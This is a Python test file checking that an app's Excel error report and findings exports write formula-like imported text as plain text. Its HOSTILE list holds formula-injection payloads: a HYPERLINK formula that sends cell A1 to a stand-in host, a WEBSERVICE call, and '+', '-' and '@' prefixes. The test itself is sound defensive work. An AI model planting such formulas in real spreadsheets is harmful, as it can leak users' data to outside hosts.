"""Text written to a workbook is always text, never a formula (issue 15, item 5): the error report,
the findings list and the exports, with values and headers an imported file could carry."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from bianzhi_desktop.documents.excel.error_report import CellProblem, write_error_report
from bianzhi_desktop.documents.excel.findings import FindingLine, write_findings
from bianzhi_desktop.documents.excel.reader import SheetData

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
    '=WEBSERVICE("http://x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
]


def formulas_in(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        return [name for name in sheets if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]


def all_text(path: Path) -> set[str]:
    book = load_workbook(path)
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value
    }


def test_the_error_report_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    rows = [["姓名", HOSTILE[0]], *[[text, text] for text in HOSTILE]]
    sheet = SheetData(tmp_path / "=evil().xlsx", "=名单", ["=名单"], rows)
    problems = [CellProblem(row, 0, f"{HOSTILE[1]}不对") for row in range(2, len(rows) + 1)]
    path = write_error_report(tmp_path / "report.xlsx", sheet, 0, ["姓名", HOSTILE[0]], problems)
    assert formulas_in(path) == []
    assert set(HOSTILE) <= all_text(path)


def test_the_findings_list_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    lines = [FindingLine(text, "问题", text, text, "待整改", None, None, None, text) for text in HOSTILE]
    path = write_findings(tmp_path / "findings.xlsx", lines, title=HOSTILE[2], subtitle=HOSTILE[3])
    assert formulas_in(path) == []
    assert set(HOSTILE) <= all_text(path)
